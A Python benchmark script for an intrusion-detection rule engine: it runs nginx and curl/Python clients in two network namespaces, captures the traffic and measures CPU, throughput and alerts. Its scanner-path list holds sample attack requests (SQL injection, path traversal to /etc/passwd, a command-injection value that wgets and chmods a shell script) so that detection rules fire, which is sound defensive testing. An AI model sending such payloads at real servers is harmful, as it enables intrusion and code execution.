"""A realistic workload from real programs: nginx (Debian) serving real clients (curl and
Python's http.client) in two network namespaces, captured with tcpdump (issue 10 §4).

Thousands of short transactions over keep-alive and one-shot connections, objects from 200 B
to 60 KB (most bytes under libhtp's body limits, so detection really sees them) with a few
large ones past the limit, some gzip (and then chunked) from nginx, POST bodies, scanner-like
requests that ET Open has rules for, and non-HTTP TCP and UDP flows. Seeded: the same seed
gives the same objects, the same request list and the same order (the capture's timing is
the kernel's).

    sudo .venv/bin/python bench/workload_nginx.py [--requests 3000] [--seed 7] [--repo DIR ...]

Needs root (namespaces), nginx, curl and tcpdump (``make setup`` installs them). The pcap is
cached in bench/.cache/; then ``ruleengine run`` is run on it as a child of each ``--repo``
(default: this checkout) with 10 rules and with ET Open's HTTP rules, and CPU seconds,
packets/s, Mbit/s of TCP payload, peak RSS and the alert digest are printed; ``start+end``
is the CPU of a run on the capture's first packets (interpreter, imports, rule load,
shutdown) and ``per-pkt`` the CPU per packet without it. ``--passes N`` alternates the
checkouts N times (a shared machine is noisy: compare the spread, not one pass). HOME_NET is the
client's address, so ``$HOME_NET -> $EXTERNAL_NET`` rules apply as on a sensor's uplink.
Traffic only goes between the two namespaces.
"""

from __future__ import annotations

import argparse
import atexit
import json
import random
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "bench"))

from detect_realistic import _rules, run_engine  # noqa: E402
from pcap_throughput import http_rules  # noqa: E402

from tests import kernel  # noqa: E402
from tests.integration import realtraffic  # noqa: E402

CACHE = REPO / "bench" / ".cache"
SIZES = [200, 600, 1500, 4000, 9000, 20000, 60000]
LARGE = [300_000, 1_500_000]  # past the response body limit: a few, as on real sites
SCANNER_PATHS = ["/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                 "/cgi-bin/../../../../etc/passwd", "/.git/config", "/phpmyadmin/index.php",
                 "/wp-login.php", "/?cmd=wget%20http://x/a.sh%3Bchmod%20777%20a.sh"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
          "curl/7.88.1", "python-requests/2.31.0"]
SCANNER_AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Go-http-client/1.1"]
HTTP_PORT, TCP_PORT, UDP_PORT = 80, 9000, 9001
HEAD_PACKETS = 20  # the fixed-cost run: this many packets (flows start, nothing to detect)


def make_site(root: Path, rng: random.Random) -> list[tuple[str, int]]:
    """Objects under ``root``: text pages (gzip-able) and binary files, with their sizes."""
    words = b"<p>lorem ipsum dolor sit amet, consectetur adipiscing elit sed do</p>\n"
    objects = []
    for i in range(120):
        size = rng.choice(LARGE) if i % 60 == 59 else rng.choice(SIZES)
        if i % 3:
            name = f"/page{i}.html"
            data = (words * (size // len(words) + 1))[:size]
        else:
            name = f"/blob{i}.bin"
            data = rng.randbytes(size)
        (root / name.lstrip("/")).write_bytes(data)
        objects.append((name, size))
    (root / "api").mkdir(exist_ok=True)
    (root / "api" / "login").write_text('{"ok": true}\n')
    return objects


def request_plan(objects: list[tuple[str, int]], rng: random.Random, requests: int
                 ) -> list[dict[str, object]]:
    """Connections, each a list of requests: 70 % one request, else keep-alive 2..6."""
    plan: list[dict[str, object]] = []
    left = requests
    while left > 0:
        count = 1 if rng.random() < 0.7 else min(left, rng.randint(2, 6))
        scanner = rng.random() < 0.05
        paths = [rng.choice(SCANNER_PATHS) if scanner else rng.choice(objects)[0]
                 for _ in range(count)]
        plan.append({
            "client": "python" if rng.random() < 0.3 else "curl",
            "paths": paths,
            "agent": rng.choice(SCANNER_AGENTS if scanner else AGENTS),
            "gzip": rng.random() < 0.3,
            "post": rng.random() < 0.1,
        })
        left -= count
    return plan


NGINX_CONF = """
daemon off;
master_process off;
worker_processes 1;
pid {work}/nginx.pid;
error_log {work}/error.log warn;
events {{ worker_connections 512; }}
http {{
    access_log off;
    client_body_temp_path {work}/body;
    keepalive_timeout 10;
    keepalive_requests 1000;
    default_type application/octet-stream;
    types {{ text/html html; application/json json; }}
    gzip on;
    gzip_min_length 500;
    gzip_types text/html application/json;
    server {{
        listen {host}:{port};
        server_name www.example.com;
        root {work}/www;
        location /api/ {{ error_page 405 =200 $uri; }}
    }}
}}
"""

# runs inside the client namespace: curl for most connections, http.client for the rest,
# 8 at a time; then one non-HTTP TCP exchange and UDP datagrams per 50 connections
CLIENT = textwrap.dedent("""
    import http.client, json, socket, subprocess, sys
    from concurrent.futures import ThreadPoolExecutor
    host, plan = sys.argv[1], json.load(open(sys.argv[2]))

    def curl(conn):
        cmd = ["curl", "-s", "--max-time", "20", "-A", conn["agent"]]
        if conn["gzip"]:
            cmd.append("--compressed")
        if len(conn["paths"]) == 1:
            cmd += ["-H", "Connection: close"]
        for path in conn["paths"]:
            if conn["post"]:
                cmd += ["--data-binary", "user=alice&password=secret" * 20]
            cmd += ["-o", "/dev/null", f"http://{host}{path}"]
        subprocess.run(cmd, check=False, stdout=subprocess.DEVNULL)

    def python(conn):
        c = http.client.HTTPConnection(host, 80, timeout=20)
        for path in conn["paths"]:
            headers = {"User-Agent": conn["agent"], "Accept": "*/*"}
            if conn["gzip"]:
                headers["Accept-Encoding"] = "gzip"
            if conn["post"]:
                c.request("POST", "/api/login", body=b"user=bob&password=hunter2", headers=headers)
            else:
                c.request("GET", path, headers=headers)
            c.getresponse().read()
        c.close()

    def other(i):
        with socket.create_connection((host, {tcp}), timeout=10) as s:
            s.sendall(bytes([i % 256]) * 3000)
            s.shutdown(socket.SHUT_WR)
            while s.recv(65536):
                pass
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for n in range(5):
            u.sendto(b"\\x12\\x34" + bytes([n]) * 60, (host, {udp}))
        u.close()

    with ThreadPoolExecutor(8) as pool:
        for i, conn in enumerate(plan):
            pool.submit(curl if conn["client"] == "curl" else python, conn)
            if i % 50 == 0:
                pool.submit(other, i)
""")

# runs inside the server namespace: echo TCP back reversed, swallow UDP
OTHER_SERVER = textwrap.dedent("""
    import socket, sys, threading
    host = sys.argv[1]
    def tcp():
        srv = socket.create_server((host, {tcp}), backlog=64)
        while True:
            conn, _ = srv.accept()
            data = b""
            while chunk := conn.recv(65536):
                data += chunk
            conn.sendall(data[::-1])
            conn.close()
    def udp():
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind((host, {udp}))
        while True:
            u.recvfrom(2048)
    threading.Thread(target=udp, daemon=True).start()
    tcp()
""")


def _ports(code: str) -> str:
    return code.replace("{tcp}", str(TCP_PORT)).replace("{udp}", str(UDP_PORT))


def capture(pcap: Path, requests: int, seed: int) -> str:
    """Run the workload and write ``pcap``; returns the client address (HOME_NET)."""
    rng = random.Random(seed)
    with kernel.netns_pair("wl") as net, tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        (work / "www").mkdir()
        objects = make_site(work / "www", rng)
        plan_file = work / "plan.json"
        plan_file.write_text(json.dumps(request_plan(objects, rng, requests)))
        realtraffic.tx_checksums_in_software(net)
        conf = work / "nginx.conf"
        conf.write_text(NGINX_CONF.format(work=work, host=net.v4_b, port=HTTP_PORT))
        log = work / "error.log"
        nginx = net.popen(net.ns_b, "nginx", "-p", str(work), "-c", str(conf), "-e", str(log),
                          stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)
        realtraffic.wait_listening(net, net.ns_b, HTTP_PORT, nginx, "nginx", log)
        other = net.popen(net.ns_b, sys.executable, "-c",
                          _ports(OTHER_SERVER), net.v4_b)
        realtraffic.wait_listening(net, net.ns_b, TCP_PORT, other, "tcp server", log)
        tmp_pcap = work / "capture.pcap"
        with realtraffic.capture(net, net.ns_a, net.if_a, tmp_pcap):
            started = time.monotonic()
            net.python(net.ns_a, _ports(CLIENT), net.v4_b,
                       str(plan_file), timeout=1800)
            print(f"  clients done in {time.monotonic() - started:.1f}s", flush=True)
        realtraffic.stop(nginx, 3)
        pcap.write_bytes(tmp_pcap.read_bytes())
        return net.v4_a


def head_pcap(pcap: Path, count: int) -> Path:
    """The capture's first ``count`` packets (classic pcap): a run on it costs what a run
    costs before and after its packets (interpreter, imports, rule load, shutdown)."""
    out = pcap.with_name(f"{pcap.stem}-head{count}.pcap")
    if not out.exists():
        data = pcap.read_bytes()
        order = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        pos = 24
        for _ in range(count):
            if pos + 16 > len(data):
                break
            pos += 16 + struct.unpack_from(order + "I", data, pos + 8)[0]
        out.write_bytes(data[:pos])
    return out


def _cold(kind: str) -> Path:
    """The set's rules under a new name (parsed cold by the run); removed at exit."""
    path = http_rules(10 if kind == "10" else None)
    atexit.register(path.unlink, missing_ok=True)
    return path


def tcp_payload_bytes(pcap: Path) -> int:
    return sum(len(c.to_server) + len(c.to_client) for c in
               realtraffic.tcp_conversations(realtraffic.read_pcap(pcap)))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=3000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--repo", action="append", type=Path, help="checkout to run (repeat)")
    parser.add_argument("--sets", default="10,http", help="10, http (ET Open HTTP), all")
    parser.add_argument("--passes", type=int, default=1,
                        help="run every checkout this many times, alternating (noisy hosts)")
    parser.add_argument("--cold-rules", action="store_true",
                        help="a new rule file name for every run (the rule cache is keyed "
                             "by name): each run parses its rules (and leaves a cache "
                             "entry); default: bench/.cache/rules-SET, warm after the first")
    args = parser.parse_args()
    CACHE.mkdir(parents=True, exist_ok=True)
    pcap = CACHE / f"nginx-{args.requests}-{args.seed}.pcap"
    meta = pcap.with_suffix(".json")
    if not pcap.exists() or not meta.exists():
        print(f"capturing {pcap} (once) ...", flush=True)
        home = capture(pcap, args.requests, args.seed)
        meta.write_text(json.dumps({"home_net": home}))
    home = json.loads(meta.read_text())["home_net"]
    payload = tcp_payload_bytes(pcap)
    print(f"pcap: {pcap} ({pcap.stat().st_size / 1e6:.1f} MB, TCP payload "
          f"{payload / 1e6:.1f} MB), HOME_NET {home}")
    head = head_pcap(pcap, HEAD_PACKETS)
    extra = ["--no-progress", "--set", f"vars.address-groups.HOME_NET=[{home}]"]
    for kind in args.sets.split(","):
        # a fixed name (detect_realistic's): runs after the first load their rules warm,
        # as a sensor restarted on the same files does
        cold = args.cold_rules and kind != "all"
        rules = _rules(kind)
        for _ in range(args.passes):
            for repo in args.repo or [REPO]:
                r = run_engine(repo.resolve(), pcap, _cold(kind) if cold else rules, extra)
                fixed = float(run_engine(repo.resolve(), head, _cold(kind) if cold else rules,  # type: ignore[arg-type]
                                         extra)["cpu"])
                cpu = float(r["cpu"])  # type: ignore[arg-type]
                packets = int(r["packets"])  # type: ignore[call-overload]
                per_packet = (cpu - fixed) / max(1, packets - HEAD_PACKETS) * 1e6
                print(f"rules={kind:5s} repo={repo} cpu={cpu:.2f}s wall={r['wall']:.2f}s "
                      f"start+end={fixed:.2f}s per-pkt={per_packet:.1f}us pkts={packets} "
                      f"pkt/s(cpu)={packets / cpu:.0f} "
                      f"Mbit/s(cpu)={payload * 8 / cpu / 1e6:.1f} rss={r['rss_mb']:.0f}MB "
                      f"alerts={r['alerts']} digest={r['digest']}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
